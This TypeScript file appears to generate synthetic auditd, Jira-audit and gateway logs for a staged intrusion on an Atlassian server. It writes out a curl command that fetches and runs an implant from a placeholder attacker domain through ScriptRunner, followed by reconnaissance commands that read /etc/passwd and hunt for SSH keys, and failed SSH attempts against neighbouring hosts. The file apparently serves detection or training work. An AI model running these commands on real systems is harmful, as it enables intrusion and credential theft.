/** 22 to 24 November: ScriptRunner installs an implant on the Atlassian server, which stays for two days. */
import { accounts, type Host, hosts } from '../cast.ts';
import { type AuditdEvent, jiraUser } from '../formats/auditd.ts';
import { jiraAuthor, scriptRun } from '../formats/jira-audit.ts';
import { moment } from '../stamps.ts';
import { type Story, spread } from './deed.ts';
import { enterGateway, jiraRequest } from './entering.ts';
import { implantPath, indicators, schedule } from './schedule.ts';

const server = 'auditd:atlassian-01';
export const implantPid = 41_377;
const shellPid = 41_370;
const home = '/opt/atlassian/jira';

const run = (argv: readonly string[], exe: string, pid?: number, parent = implantPid): AuditdEvent => ({
  kind: 'execute',
  argv,
  exe,
  user: jiraUser,
  cwd: home,
  parent,
  ...(pid === undefined ? {} : { pid }),
});

const report: AuditdEvent = {
  kind: 'connect',
  ip: indicators.control,
  port: 443,
  exe: implantPath,
  user: jiraUser,
  pid: implantPid,
};

export function tellImplant(story: Story): void {
  install(story);
  reportHome(story);
  lookAround(story);
  tryNeighbours(story);
}

function install(story: Story): void {
  const { tell } = story;
  const at = schedule.implantInstalled;
  const fetch = `curl -fsSL -o ${implantPath} https://${indicators.domain}/${indicators.file}`;
  enterGateway(story, at - 11 * 60_000, 'gateway-entered');
  tell(
    at,
    act,
    'jira-access',
    jiraRequest('/rest/scriptrunner/latest/user/exec/', accounts.smartsheet.login, at, 200, 'POST'),
  );
  tell(
    at,
    act,
    'jira-audit',
    scriptRun(
      { author: jiraAuthor(accounts.smartsheet), ip: indicators.address },
      `["/bin/sh", "-c", "${fetch}"].execute()`,
    ),
  );
  fetchImplant(story, fetch);
  startImplant(story);
}

const act = 'implant-installed';

/** What a shell on the server does, and what the gateway sees of it. */
function fetchImplant({ tell }: Story, fetch: string): void {
  const at = schedule.implantInstalled;
  tell(at + 120, act, server, run(['/bin/sh', '-c', fetch], '/usr/bin/dash', shellPid, 1_201));
  tell(at + 160, act, server, run(fetch.split(' '), '/usr/bin/curl', shellPid + 1, shellPid));
  tell(at + 210, act, 'gateway-dns', {
    email: '',
    userId: '',
    device: 'atlassian-01',
    ip: '203.0.113.9',
    name: indicators.domain,
    type: 'A',
    resolved: [indicators.control],
    decision: 'allowedOnNoPolicyMatch',
  });
  tell(at + 400, act, 'gateway-http', {
    action: 'allow',
    email: '',
    userId: '',
    device: 'atlassian-01',
    ip: '203.0.113.9',
    internalIp: hosts['atlassian-01'],
    host: indicators.domain,
    destination: indicators.control,
    method: 'GET',
    path: `/${indicators.file}`,
    status: 200,
    agent: 'curl/7.81.0',
    policy: '',
  });
}

function startImplant({ tell }: Story): void {
  const at = schedule.implantInstalled;
  tell(at + 700, act, server, {
    kind: 'create',
    path: implantPath,
    exe: '/usr/bin/curl',
    user: jiraUser,
    cwd: home,
    pid: shellPid + 1,
  });
  tell(at + 720, act, 'ocsf', {
    kind: 'file',
    host: 'atlassian-01',
    path: implantPath,
    user: 'jira',
    sha256: indicators.sha256,
  });
  tell(
    at + 1_900,
    act,
    server,
    run(['chmod', '0755', implantPath], '/usr/bin/chmod', shellPid + 2, shellPid),
  );
  tell(at + 2_300, act, server, run([implantPath], implantPath, implantPid, shellPid));
  tell(at + 2_350, act, 'ocsf', {
    kind: 'process',
    host: 'atlassian-01',
    path: implantPath,
    commandLine: implantPath,
    user: 'jira',
    pid: implantPid,
    sha256: indicators.sha256,
  });
  tell(at + 2_800, act, server, report);
}

/** It reports about once an hour, until the intruder is seen for the last time. */
function reportHome({ tell, dice }: Story): void {
  const last = schedule.lastActivity;
  for (const at of spread(dice, schedule.implantInstalled + 600_000, last - 60_000, 44))
    tell(at, 'implant-reported', server, report);
  tell(last - 2_000, 'implant-reported', server, report);
  tell(last, 'last-activity', server, run(['/bin/ps', 'aux'], '/usr/bin/ps'));
}

function lookAround({ tell, dice }: Story): void {
  const commands: [exe: string, ...words: string[]][] = [
    ['/usr/bin/id', 'id'],
    ['/usr/bin/uname', 'uname', '-a'],
    ['/usr/bin/cat', 'cat', '/etc/passwd'],
    ['/usr/bin/ip', 'ip', 'route'],
    ['/usr/bin/ss', 'ss', '-tnp'],
    ['/usr/bin/cat', 'cat', '/etc/hosts'],
    ['/usr/bin/ls', 'ls', '-la', '/opt/atlassian/jira/conf'],
    ['/usr/bin/find', 'find', '/home', '-name', 'id_*'],
  ];
  const times = spread(dice, moment('11-22 14:26'), moment('11-22 14:58'), commands.length);
  for (const [index, at] of times.entries()) {
    const [exe, ...words] = commands[index] ?? ['/usr/bin/id', 'id'];
    tell(at, 'looked-around', server, run(words, exe));
  }
}

/** From the server to its neighbours, and to the console server in Sao Paulo, whose rule was written and not enforced. */
function tryNeighbours({ tell, dice }: Story): void {
  const tries: [host: Host, from: string, to: string, count: number, users: string[]][] = [
    ['bastion-01', '11-22 15:02', '11-22 15:40', 5, ['jira', 'root', 'ops']],
    ['core-db', '11-22 15:44', '11-22 16:20', 4, ['postgres', 'root']],
    ['console-gru-01', '11-22 17:05', '11-22 19:30', 9, ['root', 'admin', 'console']],
    ['console-gru-01', '11-23 09:40', '11-23 13:10', 8, ['root', 'admin', 'console', 'noc']],
  ];
  for (const [host, from, to, count, users] of tries)
    for (const at of spread(dice, moment(from), moment(to), count)) {
      const user = dice.pick(users);
      const pid = 3_000 + dice.below(30_000);
      const port = 40_000 + dice.below(20_000);
      tell(
        at,
        'neighbour-refused',
        server,
        run(['ssh', '-o', 'BatchMode=no', `${user}@${host}`], '/usr/bin/ssh'),
      );
      tell(at + 40, 'neighbour-refused', server, {
        kind: 'connect',
        ip: hosts[host],
        port: 22,
        exe: '/usr/bin/ssh',
        user: jiraUser,
      });
      const message = `Failed password for ${user} from ${hosts['atlassian-01']} port ${port} ssh2`;
      tell(at + 900, 'neighbour-refused', `auth:${host}`, { program: 'sshd', pid, message });
      tell(at + 1_300, 'neighbour-refused', `auth:${host}`, {
        program: 'sshd',
        pid,
        message: `Connection closed by authenticating user ${user} ${hosts['atlassian-01']} port ${port} [preauth]`,
      });
    }
}
